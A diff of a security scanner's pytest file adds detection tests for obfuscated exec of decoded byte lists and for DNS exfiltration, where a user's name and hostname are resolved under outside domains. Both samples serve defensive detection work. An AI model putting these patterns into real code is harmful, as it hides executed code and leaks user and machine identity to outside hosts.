@@ -460,6 +460,7 @@ def test_eval_of_argv_is_high_and_ast_whitelist_is_clean(scan):
         "exec(codecs.decode(TEXT, 'rot13'))",
         "code = base64.b85decode(B)\nexec(code)",
         "exec(SOURCE[::-1])",
+        "_p = [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115]\nexec(bytes(_p).decode())",
     ],
 )
 def test_exec_of_decoded_data_is_critical_obfuscation(scan, payload):
@@ -468,6 +469,35 @@ def test_exec_of_decoded_data_is_critical_obfuscation(scan, payload):
     findings = of_rule(scan({"scripts/x.py": script}, "signatures"), "py.exec-decoded")
 
     assert [f.severity for f in findings] == [Severity.CRITICAL]
+
+
+def test_exec_of_a_short_number_list_is_not_called_decoded(scan):
+    script = "VERSION = (3, 11, 4)\nexec(f'print({VERSION})')\n"
+
+    findings = scan({"scripts/x.py": script}, "signatures")
+
+    assert of_rule(findings, "py.exec-decoded") == []
+    assert [f.severity for f in of_rule(findings, "py.dynamic-exec")] == [Severity.MEDIUM]
+
+
+@pytest.mark.parametrize(
+    ("built", "expected"),
+    [
+        ("os.environ.get('USER', 'u') + '.' + os.uname().nodename + '.wx-lookup.net'", [HIGH]),
+        ("f'{getpass.getuser()}.{socket.gethostname()}.t.example.invalid'", [CRITICAL]),
+        ("f\"{os.environ['AWS_REGION']}.ec2.amazonaws.com\"", []),
+        ("f'{city}.weather-api.net'", []),
+    ],
+    ids=["user-and-machine", "untrusted", "configured-region", "plain-input"],
+)
+def test_a_looked_up_name_carrying_the_users_identity_is_dns_exfiltration(scan, built, expected):
+    script = (
+        f"import getpass, os, socket\ncity = 'oslo'\nhost = {built}\nsocket.gethostbyname(host)\n"
+    )
+
+    findings = of_rule(scan({"scripts/w.py": script}, "signatures"), "py.dns-exfiltration")
+
+    assert [f.severity for f in findings] == expected
 
 
 def test_shell_running_a_network_response_is_critical(scan):
